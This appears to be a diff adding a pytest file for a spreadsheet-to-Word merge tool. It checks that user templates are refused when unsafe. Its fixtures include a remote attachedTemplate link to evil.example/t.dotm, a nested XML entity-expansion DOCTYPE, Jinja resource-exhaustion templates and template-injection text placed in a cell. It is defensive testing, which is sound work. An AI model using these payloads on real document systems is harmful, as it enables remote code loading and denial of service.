@@ -1,0 +1,155 @@
+"""Own templates (-t): unsafe or broken ones are refused with one sentence, and rendering is bounded."""
+
+from __future__ import annotations
+
+import shutil
+import zipfile
+from pathlib import Path
+
+import pytest
+from conftest import SHEETS
+from process import MEMORY_LIMIT, run_gwmerge
+
+from gwmerge import api
+
+pytestmark = pytest.mark.timeout(120)
+
+LOOP = ("{%p for p in paragraphs %}", "{{r p.rich }}", "{%p endfor %}")
+
+
+def _template(path: Path, *lines: str) -> Path:
+    from docx import Document
+
+    doc = Document()
+    for line in lines:
+        doc.add_paragraph(line)
+    doc.save(path)
+    return path
+
+
+def _patch(path: Path, part: str, change) -> Path:
+    tmp = path.with_suffix(".tmp")
+    with zipfile.ZipFile(path) as src, zipfile.ZipFile(tmp, "w", zipfile.ZIP_DEFLATED) as dst:
+        for item in src.infolist():
+            data = src.read(item)
+            dst.writestr(item, change(data) if item.filename == part else data)
+    shutil.move(tmp, path)
+    return path
+
+
+def _merge_error(tmp_path: Path, template: Path) -> str:
+    book = shutil.copy(SHEETS / "示例-党员.xlsx", tmp_path / "示例-党员.xlsx")
+    [outcome] = api.merge([Path(book)], tmp_path / "out", template=template)
+    assert outcome.error is not None and outcome.crash is None, (outcome.crash, outcome.output)
+    assert not (tmp_path / "out" / "示例-党员.docx").exists()
+    message = str(outcome.error)
+    assert message.startswith(f"{template.name}："), message
+    return message
+
+
+@pytest.mark.parametrize("tag", ["{% include 'x.docx' %}", "{% extends 'base' %}", "{% import 'm' as m %}",
+                                 "{% from 'm' import x %}"])
+def test_include_extends_import_are_refused(tmp_path: Path, tag: str) -> None:
+    tpl = _template(tmp_path / "引用.docx", tag, *LOOP)
+    assert "不能引用其他模板" in _merge_error(tmp_path, tpl)
+
+
+def test_unknown_variable_is_named(tmp_path: Path) -> None:
+    tpl = _template(tmp_path / "拼错.docx", "{{ titel }}", *LOOP)
+    message = _merge_error(tmp_path, tpl)
+    assert "模板中的变量 {{ titel }} 不存在" in message and "title_text" in message
+
+
+def test_unknown_attribute_is_refused_not_blank(tmp_path: Path) -> None:
+    tpl = _template(tmp_path / "属性.docx", "{%p for p in paragraphs %}", "{{ p.titel }}", "{%p endfor %}")
+    assert "不存在的变量或属性" in _merge_error(tmp_path, tpl)
+
+
+def test_template_without_the_paragraph_loop(tmp_path: Path) -> None:
+    tpl = _template(tmp_path / "无正文.docx", "{{ title_text }}", "{{ name }}")
+    assert "没有正文段落的循环" in _merge_error(tmp_path, tpl)
+
+
+def test_external_relationship_is_refused(tmp_path: Path) -> None:
+    tpl = _template(tmp_path / "外链.docx", "{{ title_text }}", *LOOP)
+    rel = (b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+           b'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>')
+    _patch(tpl, "word/_rels/document.xml.rels", lambda d: d.replace(b"</Relationships>", rel))
+    message = _merge_error(tmp_path, tpl)
+    assert "外部地址" in message and "http://evil.example/t.dotm" in message
+
+
+def test_external_hyperlink_is_fine(tmp_path: Path) -> None:
+    tpl = _template(tmp_path / "超链接.docx", "{{ title_text }}", *LOOP)
+    rel = (b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+           b'hyperlink" Target="https://www.gov.cn/" TargetMode="External"/></Relationships>')
+    _patch(tpl, "word/_rels/document.xml.rels", lambda d: d.replace(b"</Relationships>", rel))
+    book = shutil.copy(SHEETS / "示例-党员.xlsx", tmp_path / "示例-党员.xlsx")
+    [outcome] = api.merge([Path(book)], tmp_path / "out", template=tpl)
+    assert outcome.ok, outcome.error
+
+
+def test_bad_xml_in_the_template(tmp_path: Path) -> None:
+    tpl = _template(tmp_path / "坏XML.docx", "{{ title_text }}", *LOOP)
+    _patch(tpl, "word/document.xml", lambda d: d.replace(b"</w:body>", b"<w:p></w:body>"))
+    assert "XML 格式有误（word/document.xml）" in _merge_error(tmp_path, tpl)
+
+
+def test_entity_expansion_in_the_template(tmp_path: Path) -> None:
+    tpl = _template(tmp_path / "实体.docx", "{{ title_text }}", *LOOP)
+    doctype = (b'<!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
+               b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>')
+    _patch(tpl, "word/document.xml", lambda d: d.replace(b"?>", b"?>" + doctype, 1))
+    assert "DTD/实体声明" in _merge_error(tmp_path, tpl)
+
+
+@pytest.mark.parametrize(
+    ("name", "body", "words"),
+    [
+        ("无尽循环", "{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}{% endfor %}",
+         "运算次数过多"),
+        ("字符串倍增", '{% set ns = namespace(x="ab") %}{% for i in range(64) %}{% set ns.x = ns.x ~ ns.x %}'
+                       "{% endfor %}{{ ns.x }}", "内容过大"),
+        ("乘法", '{{ "x" * 1000000000 }}', "内容过大"),
+        ("列表乘法", "{{ [1] * 1000000000 }}", "内容过大"),
+        ("乘方", "{{ 9 ** 999999 }}", "乘方过大"),
+        ("格式方法", '{{ "{:>999999999}".format(1) }}', "格式宽度"),
+        ("居中", '{{ "x"|center(1000000000) }}', "数值参数"),
+        ("宽度", '{{ "%0999999999d"|format(1) }}', "格式宽度"),
+        ("大范围", "{% for i in range(1000000000) %}{% endfor %}", "数值参数"),
+        ("替换", '{% set ns = namespace(x="a") %}{% for i in range(40) %}{% set ns.x = ns.x.replace("a", "aa") %}'
+                 "{% endfor %}", "内容过大"),
+        ("递归宏", "{% macro m(n) %}{{ m(n) }}{% endmacro %}{{ m(1) }}", "超出限制"),
+    ],
+)
+def test_runaway_templates_are_stopped(tmp_path: Path, name: str, body: str, words: str) -> None:
+    tpl = _template(tmp_path / f"{name}.docx", body, *LOOP)
+    message = _merge_error(tmp_path, tpl)
+    assert "模板运行超出限制" in message and words in message, message
+
+
+def test_runaway_template_under_a_memory_limit(tmp_path: Path) -> None:
+    """Through the command, in a child process capped at 500 MB: one sentence, no MemoryError."""
+    tpl = _template(tmp_path / "吃内存.docx", '{% set ns = namespace(x="ab") %}{% for i in range(64) %}'
+                    "{% set ns.x = ns.x ~ ns.x %}{% endfor %}", *LOOP)
+    book = shutil.copy(SHEETS / "示例-党员.xlsx", tmp_path / "示例-党员.xlsx")
+    result = run_gwmerge("merge", book, "-o", tmp_path / "out", "-t", tpl, memory=MEMORY_LIMIT)
+    assert result.code == 1 and "Traceback" not in result.output and "内部错误" not in result.output
+    assert "吃内存.docx：模板运行超出限制（产生的内容过大）" in result.stdout
+
+
+def test_user_text_is_not_jinja(tmp_path: Path) -> None:
+    """Jinja syntax typed into a cell comes out literally, through a user's template as well."""
+    import openpyxl
+
+    from gwmerge.effective import EffectiveDoc
+
+    book = Path(shutil.copy(SHEETS / "示例-党员.xlsx", tmp_path / "示例-党员.xlsx"))
+    wb = openpyxl.load_workbook(book)
+    wb["存在的问题"]["C5"] = "{{ 7*7 }}{% for x in range(9) %}x{% endfor %}</w:t>&amp;"
+    wb.save(book)
+    tpl = _template(tmp_path / "我的.docx", "{{ title_text }}", *LOOP)
+    [outcome] = api.merge([book], tmp_path / "out", template=tpl)
+    assert outcome.ok, outcome.error
+    texts = [p.text for p in EffectiveDoc(outcome.output).paragraphs()]
+    assert any("{{ 7*7 }}{% for x in range(9) %}x{% endfor %}</w:t>&amp;" in t for t in texts)
